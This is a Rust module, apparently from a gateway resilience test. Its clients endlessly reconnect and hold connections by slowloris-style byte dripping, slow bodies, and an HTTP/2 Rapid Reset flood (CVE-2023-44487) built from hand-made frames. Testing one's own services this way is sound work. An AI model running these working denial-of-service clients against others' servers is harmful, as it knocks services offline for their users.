//! Clients that hold connections and want nothing: each connects again when its connection ends.

use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::{Interval, interval};

/// How often a client sends something, if it does: a byte, or some requests that it cancels.
const BEAT: Duration = Duration::from_secs(1);
/// Requests of one beat that are cancelled at once.
const TAKEN_BACK: u32 = 10;
/// Beats after which the gateway has closed any of these connections.
const DRIPS: usize = 60;
/// A connection's first words in HTTP/2, with empty settings (RFC 9113, section 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// `POST http /webhook.php` for the host `a`, in HPACK's static table and literals.
const REQUEST: &[u8] = b"\x83\x86\x44\x0c/webhook.php\x41\x01a";

/// A way to hold a connection.
#[derive(Clone, Copy, Debug)]
pub(crate) enum Holder {
    /// Nothing.
    Silent,
    /// Sends a request's head, a byte at a time.
    DripsHead,
    /// Sends a good key and a promise, and then a body, a byte at a time.
    DripsBody,
    /// Sends requests over HTTP/2 and cancels each at once (CVE-2023-44487).
    TakesBack,
}

pub(crate) const ALL: [Holder; 4] = [Holder::Silent, Holder::DripsHead, Holder::DripsBody, Holder::TakesBack];

/// Holds connections, one after the other; never returns.
pub(crate) async fn hold(address: SocketAddr, holder: Holder, key: String) {
    loop {
        let Ok(stream) = TcpStream::connect(address).await else { continue };
        let beat = interval(BEAT);
        // However it ends, the client connects again.
        match holder {
            Holder::Silent => silent(beat).await,
            Holder::DripsHead => drip(stream, beat, "POST /webhook.php HTTP/1.1\r\nX-Dripping: ").await.ok(),
            Holder::DripsBody => {
                let head = format!(
                    "POST /webhook.php HTTP/1.1\r\nHost: a\r\nX-API-Key: {key}\r\nContent-Length: 500\r\n\r\n"
                );
                drip(stream, beat, &head).await.ok()
            }
            Holder::TakesBack => take_back(stream, beat).await.ok(),
        };
    }
}

async fn silent(mut beat: Interval) -> Option<()> {
    for _ in 0..DRIPS {
        beat.tick().await;
    }
    None
}

async fn drip(mut stream: TcpStream, mut beat: Interval, start: &str) -> std::io::Result<()> {
    stream.write_all(start.as_bytes()).await?;
    for _ in 0..DRIPS {
        beat.tick().await;
        stream.write_all(b" ").await?;
    }
    Ok(())
}

async fn take_back(mut stream: TcpStream, mut beat: Interval) -> std::io::Result<()> {
    stream.write_all(PREFACE).await?;
    let ids = (0..).map(|number| number * 2 + 1);
    for id in ids {
        if id % (2 * TAKEN_BACK) == 1 {
            beat.tick().await;
        }
        // HEADERS with END_HEADERS, and RST_STREAM with CANCEL.
        stream.write_all(&frame(1, 4, id, REQUEST)).await?;
        stream.write_all(&frame(3, 0, id, &8_u32.to_be_bytes())).await?;
    }
    Ok(())
}

/// A frame of HTTP/2 (RFC 9113, section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap().to_be_bytes();
    let head = [&length[1..], &[kind, flags], &stream.to_be_bytes()].concat();
    [&head, payload].concat()
}
